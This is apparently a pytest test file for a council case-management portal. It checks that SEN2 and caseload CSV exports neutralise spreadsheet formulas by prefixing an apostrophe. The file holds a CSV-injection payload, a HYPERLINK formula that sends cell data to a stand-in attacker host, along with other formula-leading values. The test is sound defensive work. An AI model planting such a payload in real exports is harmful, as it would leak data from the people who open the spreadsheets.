"""Every CSV the reports write goes through the portal's one CSV writer: a cell that a
spreadsheet would run as a formula (a child's surname, a caseworker's name) comes out prefixed
with an apostrophe, as text. The records here are written straight to the database, past the
forms' validation, as an old import or a direct edit could have left them."""

import csv
import datetime
import io
import zipfile

import pytest
import time_machine

from cases.models import Child
from reporting.models import Sen2Return
from reporting.services import sen2_return_generate

pytestmark = pytest.mark.django_db
NOW = datetime.datetime(2026, 2, 10, 10, 0)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@time_machine.travel(NOW, tick=False)
def test_a_surname_that_is_a_formula_is_neutralised_in_the_sen2_csv(
    client, council, head_of_service
):
    child = council.children["A"]
    Child.objects.filter(pk=child.pk).update(surname=FORMULA, forename="+44 cmd", postcode="@SUM")
    sen2_return = sen2_return_generate(
        sen2_return=Sen2Return.objects.create(
            census_date=datetime.date(2026, 1, 15),
            dmo_in_post="Yes",
            dco_in_post="Yes",
            dsco_in_post="Yes",
            requested_by=head_of_service,
        )
    )
    client.force_login(head_of_service)
    response = client.get(f"/reports/sen2/{sen2_return.pk}/sen2-csv.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("1_person.csv").decode())))
    row = next(r for r in rows if r["PersonID"] == child.reference)
    assert row["Surname"] == "'" + FORMULA
    assert row["Forename"] == "'+44 cmd"
    assert not any(
        value.startswith(("=", "+", "@", "-")) for r in rows for value in r.values() if value
    )
    # The other modules' identifiers and dates are written as they are.
    assert row["PersonBirthDate"] == "2016-05-04"


@time_machine.travel(NOW, tick=False)
def test_a_name_that_is_a_formula_is_neutralised_in_a_figure_csv(client, council, manager):
    council.caseworker.first_name = "=1+1"
    council.caseworker.last_name = "Tester"
    council.caseworker.save()
    client.force_login(manager)
    response = client.get("/reports/download.csv?figure=caseload")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    # The filters the figure was worked out for come first, then the table.
    assert rows[0][0] == "Filter: Period" and ["Filter: Primary need", "All"] in rows
    header = rows.index([]) + 1
    assert rows[header][0] == "Lead caseworker"
    assert [r[0] for r in rows[header + 1 :] if "Tester" in r[0]] == ["'=1+1 Tester"]
